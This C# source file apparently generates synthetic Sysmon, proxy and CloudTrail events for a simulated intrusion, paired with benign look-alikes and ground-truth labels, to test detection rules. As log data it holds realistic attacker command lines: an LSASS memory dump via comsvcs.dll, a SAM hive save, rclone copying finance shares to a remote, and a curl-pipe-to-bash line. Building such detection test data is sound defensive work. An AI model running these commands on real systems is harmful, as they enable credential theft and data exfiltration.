namespace Custodiet.Sample;

/// <summary>
/// A phishing mail becomes a macro, credentials are stolen, the intruder moves to a file server, and data leaves: on two hosts, in
/// eighty minutes of the last working morning before the anchor. Around it, benign acts that look alike.
/// </summary>
internal sealed class Intrusion
{
    private const string Sysmon = "Microsoft-Windows-Sysmon/Operational";
    private const string PowerShell = @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
    private const string Word = @"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE";
    private const string Cmd = @"C:\Windows\System32\cmd.exe";

    // «whoami» and «inventory» in UTF-16, base64: enough to look real, and harmless.
    private const string EncodedCommand = "dwBoAG8AYQBtAGkA";
    private const string EncodedInventory = "aQBuAHYAZQBuAHQAbwByAHkA";

    private readonly SampleCompany company;
    private readonly List<SampleEvent> events = [];
    private readonly List<SampleTruth> truth = [];
    private readonly Random random;

    public Intrusion(SampleCompany company, DateTimeOffset anchor)
    {
        this.company = company;
        random = company.RandomFor(0, 7);
        Begin = WorkingMorningBefore(anchor);
        Chain(company.Workstations[16], company.Servers[2]);
        LookAlikes();
        events.Sort((a, b) => a.At.CompareTo(b.At));
    }

    /// <summary>When the mail is opened.</summary>
    public DateTimeOffset Begin { get; }

    /// <summary>What was done.</summary>
    public IReadOnlyList<SampleTruth> Truth => truth;

    /// <summary>Adds the events of one minute.</summary>
    public void Minute(long minute, List<SampleEvent> into) =>
        into.AddRange(events.Where(e => e.At.ToUnixTimeSeconds() / 60 == minute));

    private void Chain(SampleHost first, SampleHost second)
    {
        Run(
            0,
            first,
            PowerShell,
            $"powershell.exe -nop -w hidden -enc {EncodedCommand}",
            Word,
            StarterRule.OfficeStartsInterpreter,
            "A macro in an attachment starts PowerShell."
        );
        Expect(0, first, StarterRule.EncodedPowerShell, true, "The macro hides its command in base64.");
        Write(
            1,
            first,
            Word,
            $@"C:\Users\{first.User}\AppData\Local\Temp\invoice.js",
            StarterRule.OfficeWritesScript,
            "The macro drops a script."
        );
        RunKey(4, first, @"C:\Users\Public\AppData\Local\Temp\invoice.js", true, "The script makes itself permanent.");
        Connect(5, first, PowerShell, "198.51.100.77");
        Run(
            22,
            first,
            @"C:\Windows\System32\reg.exe",
            @"reg.exe save HKLM\SAM C:\Users\Public\s.hiv",
            Cmd,
            StarterRule.RegistryHiveSaved,
            "Local password hashes are copied."
        );
        Run(
            24,
            first,
            @"C:\Windows\System32\rundll32.exe",
            @"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 664 C:\Users\Public\l.dmp full",
            Cmd,
            StarterRule.LsassDumped,
            "The memory of LSASS is dumped."
        );
        Run(
            41,
            second,
            @"C:\Windows\PSEXESVC.exe",
            @"C:\Windows\PSEXESVC.exe",
            @"C:\Windows\System32\services.exe",
            StarterRule.RemoteServiceProgram,
            "The intruder arrives on the file server."
        );
        Run(
            43,
            second,
            PowerShell,
            $"powershell.exe -enc {EncodedCommand}",
            @"C:\Windows\PSEXESVC.exe",
            StarterRule.EncodedPowerShell,
            "The same hidden command on the file server."
        );
        Run(
            63,
            second,
            @"C:\ProgramData\rclone.exe",
            @"rclone.exe copy D:\Shares\Finance remote:drop --transfers 8",
            Cmd,
            StarterRule.CopyToCloudStorage,
            "Finance data is copied to a cloud storage of the intruder's."
        );
        Upload(66, second, "storage.example.net", 412_000_000, true, "The proxy sees 412 MB leave.");
        CloudTrail(
            74,
            "cloudtrail.amazonaws.com",
            "StopLogging",
            first.User,
            "198.51.100.77",
            StarterRule.TrailStopped,
            true,
            "With a stolen key, the cloud's audit trail is stopped."
        );
        CloudTrail(
            76,
            "iam.amazonaws.com",
            "CreateAccessKey",
            first.User,
            "198.51.100.77",
            StarterRule.AccessKeyMade,
            true,
            "A second key is made to come back with."
        );
    }

    private void LookAlikes()
    {
        SampleHost managed = company.Workstations[2];
        Run(
            -130,
            managed,
            PowerShell,
            $"powershell.exe -NoProfile -EncodedCommand {EncodedInventory}",
            @"C:\Windows\CCM\CcmExec.exe",
            StarterRule.EncodedPowerShell,
            "The software management agent runs its inventory.",
            false
        );
        SampleHost admin = company.Servers[5];
        Run(
            -1_800,
            admin,
            @"C:\Windows\System32\reg.exe",
            @"reg.exe save HKLM\SYSTEM D:\Backup\system.hiv",
            Cmd,
            StarterRule.RegistryHiveSaved,
            "The administrator saves a hive before a driver update.",
            false
        );
        Run(
            -1_500,
            company.Servers[3],
            @"C:\Windows\PSEXESVC.exe",
            @"C:\Windows\PSEXESVC.exe",
            @"C:\Windows\System32\services.exe",
            StarterRule.RemoteServiceProgram,
            "The administrator works on the database server from MGMT-01.",
            false
        );
        Run(
            -2_900,
            company.Servers[4],
            @"C:\Tools\rclone.exe",
            @"rclone.exe copy D:\Reports corporate:reports",
            Cmd,
            StarterRule.CopyToCloudStorage,
            "The reporting job copies to the company's own storage.",
            false
        );
        RunKey(
            -300,
            company.Workstations[8],
            @"C:\Users\Default\AppData\Local\Microsoft\OneDrive\OneDrive.exe /background",
            false,
            "The sync client registers itself."
        );
        Upload(-1_400, company.Workstations[25], "video.example.org", 230_000_000, false, "Marketing uploads a film.");
        CloudTrail(
            -2_700,
            "iam.amazonaws.com",
            "CreateAccessKey",
            "terraform",
            "198.51.100.20",
            StarterRule.AccessKeyMade,
            false,
            "The infrastructure pipeline rotates its key."
        );
        SampleHost bastion = company.LinuxHosts[5];
        for (int attempt = 0; attempt < 14; attempt++)
        {
            events.Add(
                Shapes.Flat(
                    At(-600).AddSeconds(attempt * 4),
                    bastion.Name,
                    "linux",
                    null,
                    "sshd",
                    new()
                    {
                        ["message"] =
                            $"Failed password for invalid user admin{attempt} from 192.0.2.{10 + attempt} port {40_000 + attempt} ssh2",
                    }
                )
            );
        }
        Expect(-600, bastion, StarterRule.SshUnknownUser, false, "The weekly scan by the company's own scanner.");
        SampleHost ci = company.LinuxHosts[3];
        events.Add(
            Shapes.Flat(
                At(-2_000),
                ci.Name,
                "linux",
                "process_creation",
                null,
                new()
                {
                    ["Image"] = "/bin/bash",
                    ["CommandLine"] = "bash -c \"curl -fsSL https://get.example.org/tool.sh | bash\"",
                    ["ParentImage"] = "/usr/bin/runner",
                    ["User"] = "ci",
                }
            )
        );
        Expect(-2_000, ci, StarterRule.DownloadPipedToShell, false, "A build installs a tool the way its manual says.");
    }

    private void Run(
        int minute,
        SampleHost host,
        string image,
        string command,
        string parent,
        string rule,
        string story,
        bool malicious = true
    )
    {
        Dictionary<string, string> data = Baseline.Process(random, host, image, command, parent);
        events.Add(OnHost(At(minute), host, 1, data));
        Expect(minute, host, rule, malicious, story);
    }

    private void Write(int minute, SampleHost host, string image, string file, string rule, string story)
    {
        events.Add(
            OnHost(
                At(minute),
                host,
                11,
                new()
                {
                    ["Image"] = image,
                    ["TargetFilename"] = file,
                    ["User"] = @"MERIDIAN\" + host.User,
                }
            )
        );
        Expect(minute, host, rule, true, story);
    }

    private void RunKey(int minute, SampleHost host, string value, bool malicious, string story)
    {
        events.Add(
            OnHost(
                At(minute),
                host,
                13,
                new()
                {
                    ["EventType"] = "SetValue",
                    ["Image"] = malicious ? @"C:\Windows\System32\wscript.exe" : value.Split(' ')[0],
                    ["TargetObject"] =
                        @"HKU\S-1-5-21-1004336348-1177238915-682003330-1117\Software\Microsoft\Windows\CurrentVersion\Run\Update",
                    ["Details"] = value,
                    ["User"] = @"MERIDIAN\" + host.User,
                }
            )
        );
        Expect(minute, host, StarterRule.RunKeyToProfile, malicious, story);
    }

    private void Connect(int minute, SampleHost host, string image, string address) =>
        events.Add(
            OnHost(
                At(minute),
                host,
                3,
                new()
                {
                    ["Image"] = image,
                    ["Protocol"] = "tcp",
                    ["Initiated"] = "true",
                    ["SourceIp"] = host.Address,
                    ["DestinationIp"] = address,
                    ["DestinationPort"] = "443",
                    ["User"] = @"MERIDIAN\" + host.User,
                }
            )
        );

    private void Upload(int minute, SampleHost host, string site, long bytes, bool malicious, string story)
    {
        events.Add(
            Shapes.Flat(
                At(minute),
                "proxy-01",
                "proxy",
                "proxy",
                null,
                new()
                {
                    ["c-ip"] = host.Address,
                    ["cs-username"] = host.User,
                    ["cs-method"] = "POST",
                    ["cs-host"] = site,
                    ["c-uri"] = $"https://{site}/upload",
                    ["sc-status"] = 200,
                    ["cs-bytes"] = bytes,
                    ["c-useragent"] = malicious ? "rclone/v1.66.0" : "Mozilla/5.0",
                }
            )
        );
        truth.Add(new SampleTruth(At(minute), "proxy-01", StarterRule.LargeUpload, malicious, story));
    }

    private void CloudTrail(
        int minute,
        string service,
        string name,
        string user,
        string address,
        string rule,
        bool malicious,
        string story
    )
    {
        events.Add(
            Shapes.CloudTrail(
                At(minute),
                service,
                name,
                user,
                address,
                new() { ["name"] = "meridian-audit", ["userName"] = user },
                malicious ? "python-requests/2.31" : "Terraform/1.7.4"
            )
        );
        truth.Add(new SampleTruth(At(minute), Shapes.ArnOf(user), rule, malicious, story));
    }

    private void Expect(int minute, SampleHost host, string rule, bool malicious, string story) =>
        truth.Add(new SampleTruth(At(minute), host.Name, rule, malicious, story));

    /// <summary>Servers ship by NXLog, workstations by Winlogbeat.</summary>
    private SampleEvent OnHost(DateTimeOffset at, SampleHost host, int eventId, Dictionary<string, string> data)
    {
        long record = at.ToUnixTimeMilliseconds() / 250;
        return company.Servers.Contains(host)
            ? Shapes.NxLog(at, host, Sysmon, eventId, record, data)
            : Shapes.Winlogbeat(at, host, Sysmon, eventId, record, data);
    }

    private DateTimeOffset At(int minute) => Begin.AddMinutes(minute);

    /// <summary>Ten past ten, local time, on the newest working day that is over by the anchor.</summary>
    private DateTimeOffset WorkingMorningBefore(DateTimeOffset anchor)
    {
        DateTime day = TimeZoneInfo.ConvertTime(anchor, company.Zone).Date;
        while (true)
        {
            DateTime morning = day.AddHours(10).AddMinutes(10);
            DateTimeOffset begin = new(morning, company.Zone.GetUtcOffset(morning));
            if (begin.AddMinutes(90) <= anchor && day.DayOfWeek is not (DayOfWeek.Saturday or DayOfWeek.Sunday))
            {
                return begin;
            }
            day = day.AddDays(-1);
        }
    }
}
